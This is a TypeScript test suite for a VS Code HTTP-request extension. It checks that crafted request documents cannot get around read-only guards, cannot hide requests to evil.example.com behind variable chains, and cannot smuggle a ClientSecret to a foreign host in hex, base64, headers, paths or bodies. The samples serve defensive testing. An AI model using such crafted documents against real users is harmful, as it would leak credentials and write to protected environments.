import assert from 'node:assert/strict';
import { after, before, describe, it } from 'mocha';
import * as vscode from 'vscode';
import type { SandboxApplication } from '../../../src/sandbox/sandbox';
import { useHttpServer } from '../../httpServer';
import { argumentOf, rejection, run, useSandbox, writeApplications, writeSetting } from './fixture';
import { withPerson, withUser } from './person';
import { openRequest, sendRequest } from './requestDocuments';
import { useHints } from './withoutLenses';

/** A file system that marks some entries as links, like that of a remote window; their targets are unknown. */
const linkedFiles: Record<string, vscode.FileType> = {
  '/work': vscode.FileType.Directory,
  '/work/plain.json': vscode.FileType.File,
  '/work/link.json': vscode.FileType.File | vscode.FileType.SymbolicLink,
  '/work/folder': vscode.FileType.Directory | vscode.FileType.SymbolicLink,
  '/work/folder/plain.json': vscode.FileType.File,
};
const linkedDocument = ['plain.json', 'link.json', 'folder/plain.json']
  .map(file => `###\nPOST /hserve/v2.1/login/username/\n\n< ./${file}\n`)
  .join('');

function registerLinkedFiles(): vscode.Disposable {
  const refuse = (uri: vscode.Uri): never => {
    throw vscode.FileSystemError.NoPermissions(uri);
  };
  const document = '/work/links.hydrogen.http';
  return vscode.workspace.registerFileSystemProvider('linked', {
    onDidChangeFile: new vscode.EventEmitter<vscode.FileChangeEvent[]>().event,
    watch: () => new vscode.Disposable(() => undefined),
    stat(uri) {
      const type = uri.path === document ? vscode.FileType.File : linkedFiles[uri.path];
      if (type === undefined) throw vscode.FileSystemError.FileNotFound(uri);
      return { type, ctime: 0, mtime: 0, size: 0 };
    },
    readFile: uri => Buffer.from(uri.path === document ? linkedDocument : '{"username": "ann", "password": "123456"}'),
    readDirectory: () => [],
    ...{ createDirectory: refuse, writeFile: refuse, delete: refuse, rename: refuse },
  });
}

/** Returns the entry of an application in the settings. */
function entryOf({ name, clientId, serverDomain, authUrl, environments }: SandboxApplication) {
  return { name, clientId, serverDomain, authUrl, environments };
}

/** Returns the texts of the lenses that send. */
async function titlesOf(document: vscode.TextDocument): Promise<string[]> {
  const lenses = await vscode.commands.executeCommand<vscode.CodeLens[]>(
    'vscode.executeCodeLensProvider',
    document.uri,
    100,
  );
  return lenses
    .filter(({ command }) => command?.command === 'hydrogen.request.send')
    .map(({ command }) => command?.title.replace('$(play) ', '') ?? '');
}

describe('a malicious request document', () => {
  const service = useSandbox();
  useHints();
  const arrived = () => service().sandbox.requests.length;
  after(() => vscode.commands.executeCommand('workbench.action.closeAllEditors'));

  for (const guard of ['readOnly', 'confirm']) {
    describe(`when an environment is guarded with ${guard}`, () => {
      const guarded = 'env-guarded';
      before(async () => {
        const { shop, blog } = service();
        const [staging] = shop.environments;
        const environments = [staging, { name: 'Guarded', envId: guarded, guard }];
        await writeApplications([{ ...entryOf(shop), environments }, entryOf(blog)]);
        await run('application.select', { clientId: shop.clientId, envId: staging?.envId });
      });
      const write = 'POST /hserve/v2.4/table/product/record/';
      const body = ['Content-Type: application/json', '', '{"name": "written"}'];

      it('cannot write elsewhere by a header from a variable', async () => {
        const { blog } = service();
        const headers = [
          ['X-Hydrogen-Env-ID: {{e}}'],
          ['X_Hydrogen_Env_ID: {{e}}'],
          ['X-Hydrogen-Client-ID: {{c}}'],
          ['X-Hydrogen-Client-ID: {{c}}', 'X-Hydrogen-Env-ID: {{e}}'],
        ];
        const before = arrived();
        for (const attack of headers) {
          await sendRequest(await openRequest([`@e = ${guarded}`, `@c = ${blog.clientId}`, write, ...attack, ...body]));
        }
        assert.equal(arrived(), before);
        // The request goes to the target in its code lens.
        await sendRequest(await openRequest([write, ...body]));
        assert.equal(arrived(), before + 1);
        const { environment } = service().sandbox.requests.at(-1) ?? assert.fail();
        assert.equal(environment, service().shop.environments[0]?.envId);
      });

      it('cannot write to that environment by its name', async () => {
        const before = arrived();
        // The test host refuses to show a question.
        await sendRequest(await openRequest(['# @environment Guarded', write, ...body]));
        assert.equal(arrived(), before);
      });
    });
  }

  it('cannot write to a read-only production by another spelling of its host', async () => {
    const { name, clientId } = service().shop;
    const host = 'https://baas.example.com';
    const environments = [{ name: 'Staging', envId: 'env-staging' }];
    await writeApplications([{ name, clientId, serverDomain: host, authUrl: host, environments, guard: 'readOnly' }]);
    await run('application.select', { clientId, envId: 'env-staging' });
    for (const other of ['http://baas.example.com', `${host}.`, `${host}:8443`]) {
      const document = await openRequest([`DELETE ${other}/hserve/v1/a/`]);
      const asked = await withUser([], () => sendRequest(document));
      const titles = asked.map(({ title }) => title);
      assert.deepEqual(titles, [`${name} · Production is read-only in your settings. Nothing was sent.`], other);
    }
  });

  describe('for an application that is not guarded', () => {
    before(async () => {
      const { shop } = service();
      await writeApplications([entryOf(shop)]);
      await run('application.select', { clientId: shop.clientId, envId: shop.environments[0]?.envId });
    });
    after(() => writeSetting('hydrogen.variables', undefined));

    it('cannot hide its host behind variables', async () => {
      await writeSetting('hydrogen.variables', { '*': { away: 'https://evil.example.com' } });
      const chain = Array.from({ length: 20 }, (_, index) => `@v${index} = {{v${index + 1}}}`);
      const document = await openRequest([
        ...chain,
        '@v20 = {{away}}',
        ...['# @name groups', 'GET /hserve/v1/content/group/?limit=1'],
        ...['###', 'GET {{v0}}/hserve/v1/content/group/'],
        ...['###', 'GET https://{{groups.response.body.meta.total_count}}.example.com/'],
        ...['###', 'GET {{$prompt where?}}'],
        ...['###', 'GET {{v0}}/', 'Authorization: Bearer {{$secret evil}}'],
      ]);
      await sendRequest(document);
      const [name] = service().shop.environments.map(environment => environment.name);
      assert.deepEqual(
        (await titlesOf(document)).map(title => title.replace(/^Send · .* · /, '')),
        [
          name,
          'Send to evil.example.com without credentials',
          'host known only when it is sent',
          'host known only when it is sent',
          '$(warning) Cannot be sent: a secret would go to evil.example.com',
        ],
      );
      const everything = new vscode.Range(0, 0, document.lineCount, 0);
      const hints = await vscode.commands.executeCommand<vscode.InlayHint[]>(
        'vscode.executeInlayHintProvider',
        document.uri,
        everything,
      );
      assert.equal(hints[1]?.label, '→ evil.example.com, without credentials');
      assert.equal(hints[2]?.label, '→ host known only when it is sent');
      assert.equal(hints[4]?.label, '→ cannot be sent: a secret would go to evil.example.com');
    });

    it('sends a request again only to its original target, not to another host with its ClientID', async () => {
      const { name, clientId, serverDomain, authUrl } = service().shop;
      const application = { name, clientId, authUrl, serverDomain: 'https://shop.example.com' };
      const request = 'GET /hserve/v1/content/group/';
      const entry = { id: '1', at: 1, application, label: 'Groups', request, shortened: false };
      const before = arrived();
      // The request is refused before any question: nobody would answer one here.
      assert.equal(
        await rejection(run('history.sendAgain', { entry, confirmed: true })),
        `This was sent to ${name} (${clientId}) at https://shop.example.com, which is not configured here. “Edit Request” opens it as a document that you can send elsewhere.`,
      );
      assert.equal(arrived(), before);
      assert.notEqual(serverDomain, application.serverDomain);
    });

    it('sends no file through a link whose target is unknown', async () => {
      const registration = registerLinkedFiles();
      try {
        const uri = vscode.Uri.parse('linked:/work/links.hydrogen.http');
        const document = await vscode.window.showTextDocument(uri).then(editor => editor.document);
        const before = arrived();
        await sendRequest(document, 1);
        await sendRequest(document, 2);
        assert.equal(arrived(), before);
        await sendRequest(document, 0);
        assert.equal(arrived(), before + 1);
      } finally {
        await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
        registration.dispose();
      }
    });
  });

  describe('with a secret of the window for another host', () => {
    const received: string[] = [];
    /** Responds with the ClientSecret in base64, like a host that received it from somebody else. */
    const other = useHttpServer((request, response) => {
      received.push(request.url ?? '');
      const said = Buffer.from(`user:${service().shop.clientSecret}`).toString('base64');
      response.setHeader('Content-Type', 'application/json').end(JSON.stringify({ said }));
    });
    let origin = '';
    before(async () => {
      origin = other();
      await writeApplications([]);
      await run('application.add', argumentOf(service().shop));
      await run('application.select', { clientId: service().shop.clientId });
    });

    /** Sends requests of a document one after the other. Returns the questions. */
    async function questions(lines: string[], indices = [0], answers: string[] = []) {
      const left = [...answers];
      const document = await openRequest(lines);
      const sendAll = async () => {
        for (const index of indices) await sendRequest(document, index);
      };
      return withPerson(() => left.shift(), sendAll);
    }

    it('asks with the names of the secrets in any encoding, and sends nothing when the user declines', async () => {
      const { clientSecret } = service().shop;
      const inHex = Buffer.from(clientSecret).toString('hex');
      const inBase64 = Buffer.from(`user:${clientSecret}`).toString('base64');
      const ways: Record<string, string[]> = {
        body: [`POST ${origin}/`, '', clientSecret],
        'body in JSON': [
          `POST ${origin}/`,
          'Content-Type: application/json',
          '',
          JSON.stringify({ a: `x${clientSecret}` }),
        ],
        header: [`GET ${origin}/`, `X-A: ${inBase64}`],
        path: [`GET ${origin}/${inHex}/`],
        variable: [`@a = ${clientSecret}`, `GET ${origin}/?a={{a}}`],
      };
      for (const [way, lines] of Object.entries(ways)) {
        const [asked, ...more] = await questions(lines);
        assert.deepEqual([asked?.kind, asked?.title, more], ['modal', `Send this to ${origin}?`, []], way);
        assert.match(
          asked?.detail ?? '',
          /^This is not a host of .*\. It would get these secrets: ClientSecret\n/,
          way,
        );
      }
      assert.deepEqual(received, []);
    });

    it('asks again when a response contains a secret of another request', async () => {
      const document = ['# @name first', `GET ${origin}/`, '', '###', `GET ${origin}/{{first.response.body.said}}`];
      const [first, second, ...more] = await questions(document, [0, 1], ['Send']);
      assert.match(first?.detail ?? '', /It gets no credentials\./);
      assert.match(second?.detail ?? '', /It would get these secrets: ClientSecret\n/);
      assert.deepEqual([more, received], [[], ['/']]);
    });

    it('gets no secret of request documents, regardless of the answers', async () => {
      const asked = await questions([`POST ${origin}/named`, '', '{{$secret foreignKey}}'], [0], ['Send']);
      assert.deepEqual(asked, []);
      assert.ok(!received.includes('/named'));
    });
  });
});
